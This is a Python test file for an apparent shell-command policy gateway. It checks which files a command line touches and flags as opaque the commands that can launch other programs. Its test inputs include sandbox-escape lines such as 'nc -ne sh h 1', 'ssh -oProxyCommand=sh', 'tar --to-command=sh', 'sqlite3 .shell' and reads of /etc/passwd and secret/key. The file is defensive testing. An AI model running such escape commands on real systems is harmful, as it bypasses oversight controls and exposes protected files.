"""What known programs do with their arguments."""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.policy.loading import load_policy
from gateway.policy.parts import cut
from gateway.policy.programs import _PROGRAMS, read_call
from gateway.policy.programs.call import LIMIT_USES, Call, FileUse
from gateway.policy.programs.git import SUBCOMMANDS
from gateway.policy.programs.options import compile_options
from gateway.policy.programs.scripts import sed_problem
from gateway.policy.programs.starts import _STARTS
from gateway.policy.programs.wrapping import RUNNERS
from gateway.policy.shell import parse_line
from gateway.policy.words import Word
from tests.examples import examples

# A command, and after "=>" what it uses: access and path seen from /workspace, /** for all below it, ? for
# unknown, a path with * for what that glob matches, ~ for what only rules that forbid are about. OPAQUE: it may run
# another program. UNREAD: it may use any file.
ROWS = [row.rsplit(" =>", 1) for row in (Path(__file__).parent / "programs.txt").read_text().splitlines()]

READERS = ["cat", "tac", "head", "tail", "wc", "nl", "od", "sort", "cut", "paste", "md5sum", "base64"]
CHANGERS = ["rm", "rmdir", "mkdir", "touch", "truncate", "tee", "unlink"]
GIVEN = {
    "sort": (["-o", "out"], ["-u"], ["-k2"], ["-t,"], ["--output=log"]),
    "grep": (["-r"], ["-in"], ["-A", "3"], ["--include=x"]),
    "cp": (["-r"], ["-t", "dir"], ["-v"], ["--no-clobber"], ["-p"]),
    "tail": (["-f"], ["-n", "3"], ["-q"], ["--lines=4"]),
    "curl": (["-s"], ["-o", "out"], ["-H", "A: b"], ["-d", "@f"], ["--proxy=http://p:1"]),
    "sed": (["-n"], ["-i"], ["-e", "s/a/b/"], ["-E"]),
    "git log": (["--oneline"], ["-n", "3"], ["--author=x"], ["-p"]),
}

SOME_FILES = """version: 1
rules:
  - {id: run, tools: [execute], argv: [[tar], [gzip], [cat], [git], [dd]], effect: allow, reason: r}
  - {id: use, tools: [read, write], paths: [/workspace/**], effect: allow, reason: r}
"""
SECRETS = "{id: secrets, tools: [read, write], paths: [/workspace/secret/**], effect: deny, reason: r}"


def use(text: str) -> FileUse:
    kind, _, rest = text.removeprefix("~").partition(":")
    below = rest.endswith("/**")
    path = rest.removesuffix("/**") or "/"
    full = "/workspace" if path == "." else path if path.startswith("/") else f"/workspace/{path}"
    glob = full if "*" in path else None
    known = None if path == "?" or glob else full
    return FileUse(known, kind, below, text.startswith("~"), glob)  # type: ignore[arg-type]


def uses_any_file(found: Call) -> bool:
    return any(use.path is None and use.why for use in found.uses)


def effects(line: str) -> Call:
    command = parse_line(line).commands[0]
    return read_call(command.words, command.cwd)


@pytest.mark.parametrize("line,expected", ROWS, ids=[row[0] for row in ROWS])
def test_a_command_uses_what_the_table_says(line: str, expected: str) -> None:
    found = effects(line)
    if expected.strip() in ("OPAQUE", "UNREAD"):
        assert (found.opaque is not None) == (expected.strip() == "OPAQUE")
        assert found.opaque or uses_any_file(found)
        return
    assert found.opaque is None
    assert not uses_any_file(found)
    assert set(found.uses) == {use(text) for text in expected.split()}


def test_the_table_has_enough_of_both_kinds() -> None:
    for kind in ("OPAQUE", "UNREAD"):
        assert 60 < len([row for row in ROWS if row[1].strip() == kind]) < len(ROWS) / 2


def test_a_relative_path_is_seen_from_each_directory_the_command_may_run_in() -> None:
    words = (Word("cat"), Word("a"), Word("/b"))
    assert tuple(read_call(words, ("/x", "/y")).uses) == tuple(FileUse(path, "read") for path in ("/x/a", "/y/a", "/b"))
    assert tuple(read_call(words, None).uses) == (FileUse(None, "read"), FileUse("/b", "read"))


def test_all_of_a_work_tree_may_be_above_the_directory_that_git_runs_in() -> None:
    words = tuple(Word(text) for text in ("git", "reset", "--hard"))
    assert FileUse("/workspace", "write", below=True) in read_call(words, ("/workspace/sub",)).uses


def test_any_subcommand_of_git_may_use_any_file_with_an_option_that_is_not_known() -> None:
    for subcommand in SUBCOMMANDS:
        found = effects(f"git {subcommand} --weird")
        assert found.opaque or uses_any_file(found), subcommand


@pytest.mark.parametrize(
    "name", sorted({*_PROGRAMS} - {"[", "cd", "test", "make", "gmake", "ninja"} - ({*RUNNERS} - {"bun"}))
)
def test_a_program_that_is_known_never_has_no_effects_for_an_option_that_is_not(name: str) -> None:
    found = effects(f"{name} --weird /etc/x")
    assert found.opaque or uses_any_file(found) or FileUse("/etc/x", "read") in found.uses


def test_a_program_of_that_name_elsewhere_is_unknown() -> None:
    found = effects("./cat /etc/passwd")
    assert (found.uses, found.opaque) == ({}, None)
    assert effects("/usr/bin/cat a").uses == effects("cat a").uses


def test_an_unknown_option_names_itself_and_the_rest_is_still_seen() -> None:
    found = effects("sort --weird=/x -o out in")
    assert any("--weird" in use.why for use in found.uses)
    assert {FileUse("/workspace/out", "write"), FileUse("/workspace/in", "read")} <= set(found.uses)


@pytest.mark.parametrize(
    "line", ["tar xf a.tar", "gzip a", "cat --weird a", "git log --weird", "dd if=a", "git apply a"]
)
def test_where_the_kernel_enforces_the_files_it_does_not_matter_which_ones_a_line_uses(line: str) -> None:
    by_reading = load_policy(SOME_FILES, "p").judge("execute", {"command": line})
    assert (by_reading.verdict, by_reading.rule) == ("deny", "opaque")
    assert "use enforcement: kernel" in by_reading.reason or "--weird is not known" in by_reading.reason
    by_kernel = load_policy(SOME_FILES.replace("version: 1", "version: 1\nenforcement: kernel"), "p")
    assert by_kernel.judge("execute", {"command": line}).verdict == "allow"


@pytest.mark.parametrize("line", ["tar xf a.tar", "cat --weird a", "dd if=a", "rg x src"])
def test_a_program_that_may_use_any_file_runs_where_no_rule_treats_files_differently(line: str) -> None:
    anything = "version: 1\nrules: [{id: any, tools: [execute], effect: allow, reason: r}"
    deny = ", {id: no-push, tools: [execute], argv: [[git, push]], effect: deny, reason: r}"
    assert load_policy(f"{anything}{deny}]", "p").judge("execute", {"command": line}).verdict == "allow"
    deny += ", {id: secrets, tools: [read, write], paths: [/workspace/secret/**], effect: deny, reason: r}"
    assert load_policy(f"{anything}{deny}]", "p").judge("execute", {"command": line}).rule == "opaque"


@pytest.mark.parametrize(
    "line",
    [
        *[
            "nl secret/key",
            "jq . secret/key",
            "diff a secret",
            "rg x .",
            "rg x",
            "grep -fsecret/key a",
            "stat secret/key",
        ],
        *["tar cf a secret", "zip a.zip --include=secret/key", "strings secret/*", "du -sh .", "find . -newer a"],
        *["truncate -s 0 secret/key", "chmod 600 secret/key", "uniq a secret/key", "dd --if secret/key", "cp secre?"],
    ],
)
def test_what_a_program_names_is_kept_from_it_also_where_opaque_lines_are_allowed(line: str) -> None:
    opaque = SOME_FILES.replace("version: 1", "version: 1\nopaque: allow").replace("[[tar]", '[["*"], [tar]')
    policy = load_policy(f"{opaque}  - {SECRETS}\n", "p")
    assert policy.judge("execute", {"command": line}).rule == "secrets"


@pytest.mark.parametrize(
    "line",
    [
        *[
            "tar xf a --to-command=sh",
            "tar xf a --to-comm=sh",
            "tar -xIsh -f a",
            "tar xIf sh a",
            'tar "$x" a',
            "tar xf h:a",
        ],
        *[
            "sort --compress-prog=sh a",
            "sort *",
            "rg --pre sh x",
            "zip -rT a.zip b",
            "split --filter=sh a",
            "diff -l a b",
        ],
        *[
            "wget -e x=y https://h/",
            "wget --use-ask=sh https://h/",
            "ssh h -oProxyCommand=sh",
            "scp -S sh a h:",
            "sftp h",
        ],
        *[
            "rsync -avze sh a h:b",
            "nc -ne sh h 1",
            "patch -e a",
            "install -Ds a b",
            "vim a",
            "less +!sh a",
            "gcc @args",
        ],
        *[
            "git rebase -x sh a",
            "git grep -nOsh x",
            "git fetch --upload-p=sh a",
            "git clone -u sh a:b",
            "git log --ext-d",
        ],
        *["git config core.pager sh --get", "git config --comment user.name core.pager sh", "git remote add x ext::sh"],
        *["git submodule --quiet foreach sh", "git bisect run sh", "git log --format=%G?", 'git log "--format=$x"'],
        *["sqlite3 a.db .shell", "sqlite3 a.db", "sqlite3 .tables \"select edit('x')\"", "sqlite3 -cmd .shell a.db x"],
        *[
            "tar -T names -cf a",
            "rsync --daemon --config=a",
            "curl -sK a",
            "curl --engi a h",
            "ar --plugin a r b",
            "git add -e",
        ],
        *["sed -l 5 1e a", "awk -f prog a", "xz $x | sh"],
    ],
)
def test_what_may_start_another_program_is_opaque_under_every_enforcement(line: str) -> None:
    assert cut("execute", {"command": line}, effects=False, redirects=False).opaque


@pytest.mark.parametrize(
    "line", ["sed '1e x' MANY", "cat MANY; git difftool", "git diff MANY --ext-diff", "cat MANY; sed e"]
)
def test_what_may_start_another_program_is_opaque_beside_more_files_than_are_looked_at(line: str) -> None:
    many = " ".join(f"f{place}" for place in range(LIMIT_USES + 50))
    assert cut("execute", {"command": line.replace("MANY", many)}, effects=False, redirects=False).opaque


@pytest.mark.parametrize("text", ["abc", "-", "-a:b:c"])
def test_a_text_that_describes_no_option_is_an_error(text: str) -> None:
    with pytest.raises(ValueError, match="describes no option"):
        compile_options(text)


@pytest.mark.parametrize("program", [*READERS, *CHANGERS, "rm -r", "cp", "mv", "chmod u+x", "grep x", "sed p"])
def test_an_absolute_path_is_never_lost(program: str) -> None:
    found = effects(f"{program} /etc/one /var/two")
    assert found.opaque is None
    assert {"/etc/one", "/var/two"} <= {file.path for file in found.uses}


@pytest.mark.parametrize("name", GIVEN)
def test_the_order_of_options_and_operands_does_not_matter(name: str) -> None:
    """A pattern or a script is given with an option or comes first among the operands, whatever stands between."""
    groups = [*GIVEN[name], ["one"], ["two"]]
    seen = set()
    for order in itertools.islice(itertools.permutations(groups), 0, None, 7):
        if order.index(["one"]) > order.index(["two"]):
            continue
        words = [Word(text) for text in (*name.split(), *itertools.chain(*order))]
        found = read_call(words)
        seen.add((frozenset(found.uses), found.opaque))
    assert len(seen) == 1


_texts = st.one_of(
    st.sampled_from(
        [
            "-",
            "--",
            "-o",
            "-n",
            "-rf",
            "--output=x",
            "-e",
            "s/a/b/w x",
            "a",
            "/etc/passwd",
            "../x",
            "x=y",
            ":",
            "@f",
            "-C",
        ]
    ),
    st.text(max_size=12),
)
_words = st.lists(
    st.builds(
        lambda text, kind, single, prefix: Word(text, kind, single, text[:prefix] if kind != "literal" else ""),
        _texts,
        st.sampled_from(["literal", "literal", "literal", "glob", "expansion", "unknown"]),
        st.booleans(),
        st.integers(0, 4),
    ),
    max_size=6,
)
_directories = st.sampled_from([None, ("/workspace",), ("/a", "/b"), ()])


@examples(1500)
@given(st.sampled_from(sorted({*_PROGRAMS, *_STARTS, "sqlite3", "gcc"})), _words, _directories)
def test_nothing_that_is_written_raises(name: str, words: list[Word], directories: tuple[str, ...] | None) -> None:
    found = read_call([Word(name), *words], directories)
    for file in found.uses:
        assert file.path is None or (file.path.startswith("/") and ".." not in file.path.split("/"))


@examples(800)
@given(
    st.sampled_from([*READERS, *CHANGERS, "cp", "mv", "diff", "cmp", "stat", "ls", "du"]),
    st.lists(_texts.filter(lambda text: "\0" not in text), max_size=4),
    st.integers(0, 4),
)
def test_an_operand_is_known_or_the_line_is_opaque(name: str, texts: list[str], place: int) -> None:
    """After `--` every word is an operand, so a path there must appear whatever comes before it."""
    words = [Word(text) for text in (name, *texts[:place], "--", *texts[place:], "/etc/x", "/etc/y")]
    found = read_call(words)
    taken = "--" in texts[:place] or any(text.startswith("-") for text in texts[:place][-1:])  # as an argument
    assert found.opaque or uses_any_file(found) or taken or "/etc/x" in {file.path for file in found.uses}


@pytest.mark.parametrize("letter", "aic")
@pytest.mark.parametrize("command", ["r secret/key", "w out", "e id"])
def test_text_in_sed_ends_behind_an_even_number_of_backslashes(letter: str, command: str) -> None:
    for backslashes in range(6):
        script = f"{letter} foo{chr(92) * backslashes}\n{command}"
        assert (sed_problem(script) is None) == bool(backslashes % 2), script
        assert (sed_problem(f"{letter}\\\n{script[1:]}") is None) == bool(backslashes % 2), script


def test_text_in_sed_that_begins_with_a_backslash_is_not_understood() -> None:
    assert sed_problem("a\\\\\ns/x\nr secret/key\n/") is not None
    assert sed_problem("a\\  indented") is None
    assert sed_problem("1{a\\\nfoo\n}") is None
